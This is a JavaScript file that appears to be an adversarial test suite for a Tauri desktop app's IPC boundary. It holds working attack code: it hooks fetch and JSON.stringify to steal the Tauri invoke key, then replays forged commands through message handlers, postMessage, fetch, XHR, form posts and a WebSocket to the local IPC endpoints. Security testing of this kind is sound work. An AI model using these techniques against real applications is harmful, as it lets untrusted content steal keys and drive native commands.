// Ways to the shell.

(() => {
  const { attack, marker, WINDOWS, EVERYWHERE, wait } = adversary;
  // The real one, once an attack has got hold of it.
  let stolenKey = 'forged-invoke-key';
  const COMMAND = 'plugin:mashdesk|set_favourite';
  const payload = (name) => ({ mashup: marker(name), favourite: true });
  const message = (name, key) => JSON.stringify({
    cmd: COMMAND, callback: 1, error: 2, payload: payload(name), options: {}, __TAURI_INVOKE_KEY__: key,
  });

  /** The window, among those within reach, that has something. */
  function within(what, look) {
    for (const name of ['self', 'parent', 'top', 'opener']) {
      try {
        const found = look(self[name]);
        if (found) return found;
      } catch {
        // Another origin's.
      }
    }
    throw new Error(`no ${what} in this window, its parent, its top or its opener`);
  }
  const bridged = () => within('__TAURI_INTERNALS__', (it) => it?.__TAURI_INTERNALS__ && it);
  const handler = () => within('webkit.messageHandlers.ipc', (it) => it?.webkit?.messageHandlers?.ipc);

  /** The commands among `names` that somebody answers, other than that they are not allowed. */
  async function answered(names) {
    const { invoke } = bridged().__TAURI_INTERNALS__;
    const got = [];
    for (const name of names) {
      const late = wait(300).then(() => 'not allowed: no answer');
      const said = await Promise.race([invoke(name, {}).then(() => 'answered', String), late]);
      if (!/not allowed|not found/i.test(said)) got.push(name);
    }
    if (!got.length) throw new Error(`${names.length} commands, all refused`);
    return `${got.length} of ${names.length} commands were answered: ${got.slice(0, 5).join(', ')}`;
  }

  attack('ipc.stolen_key', ['page', 'frame', 'popup'], async () => {
    const it = bridged();
    const { fetch, JSON: json } = it;
    const { stringify } = json;
    let key;
    it.fetch = (url, options) => {
      key ??= options?.headers?.get?.('Tauri-Invoke-Key');
      return fetch.call(it, url, options);
    };
    json.stringify = (value, ...more) => {
      key ??= value?.__TAURI_INVOKE_KEY__;
      return stringify.call(json, value, ...more);
    };
    try {
      await it.__TAURI_INTERNALS__.invoke(COMMAND, payload('ipc.stolen_key.first')).catch(() => {});
    } finally {
      Object.assign(it, { fetch });
      json.stringify = stringify;
    }
    if (!key) throw new Error('the key does not pass by');
    stolenKey = key;
    handler().postMessage(message('ipc.stolen_key', key));
    return POSTED;
  });
  attack('ipc.invoke', WINDOWS, async (role) => {
    await bridged().__TAURI_INTERNALS__.invoke(COMMAND, payload('ipc.invoke'));
    return `${COMMAND} was answered`;
  });
  attack('ipc.commands', ['page', 'frame', 'popup'], () => answered(adversary.config.commands));
  attack('ipc.plugins', ['page', 'frame', 'popup'], () => answered(adversary.config.plugins));
  attack('ipc.events', ['page', 'popup'], async () => {
    const { invoke, transformCallback } = bridged().__TAURI_INTERNALS__;
    const call = { event: 'change', target: { kind: 'Any' }, handler: transformCallback(() => {}) };
    return `listens as ${await invoke('plugin:event|listen', call)}`;
  });
  attack('ipc.handler', WINDOWS, () => {
    handler().postMessage(message('ipc.handler', stolenKey));
    return POSTED;
  });
  attack('ipc.window_ipc', WINDOWS, () => {
    within('window.ipc', (it) => it?.ipc).postMessage(message('ipc.window_ipc', stolenKey));
    return POSTED;
  });
  attack('ipc.post_message', WINDOWS, () => {
    for (const name of ['self', 'parent', 'top', 'opener']) {
      self[name]?.postMessage(message('ipc.post_message', stolenKey), '*');
      self[name]?.postMessage(JSON.parse(message('ipc.post_message', stolenKey)), '*');
    }
    return POSTED;
  });

  const path = encodeURIComponent(COMMAND);
  for (const [name, address] of [
    ['custom', `ipc://localhost/${path}`],
    ['localhost', `http://ipc.localhost/${path}`],
  ]) {
    const headers = () => ({
      'Content-Type': 'application/json', 'Tauri-Callback': '1', 'Tauri-Error': '2', 'Tauri-Invoke-Key': stolenKey,
    });
    attack(`ipc.fetch.${name}`, EVERYWHERE, async () => {
      const body = JSON.stringify(payload(`ipc.fetch.${name}`));
      const answer = await fetch(address, { method: 'POST', headers: headers(), body });
      return `the shell answered ${answer.status}: ${(await answer.text()).slice(0, 80)}`;
    });
    attack(`ipc.xhr.${name}`, ['page', 'foreign_frame', 'worker'], () => new Promise((got, refused) => {
      const request = new XMLHttpRequest();
      request.open('POST', address);
      for (const [name, value] of Object.entries(headers())) request.setRequestHeader(name, value);
      request.onload = () => got(`the shell answered ${request.status}`);
      request.onerror = () => refused(new Error('a network error'));
      request.send(JSON.stringify(payload(`ipc.xhr.${name}`)));
    }));
    attack(`ipc.form.${name}`, ['page'], async () => {
      const frame = Object.assign(document.createElement('iframe'), { name: `form-${name}` });
      document.body.append(frame);
      const form = Object.assign(document.createElement('form'), {
        method: 'post', action: address, target: frame.name,
      });
      document.body.append(form);
      form.submit();
      await wait(1000);
      const still = frame.contentDocument?.URL;
      frame.remove();
      form.remove();
      if (still === 'about:blank') throw new Error('the frame stays empty');
      if (name === 'localhost') return POSTED;
      return `the frame went to ${still ?? 'another origin'}`;
    });
  }
  attack('ipc.socket', ['page', 'worker'], () => new Promise((got, refused) => {
    const socket = new WebSocket('ws://ipc.localhost/');
    socket.onopen = () => got('the shell talks');
    socket.onerror = () => refused(new Error('no connection'));
  }));
})();
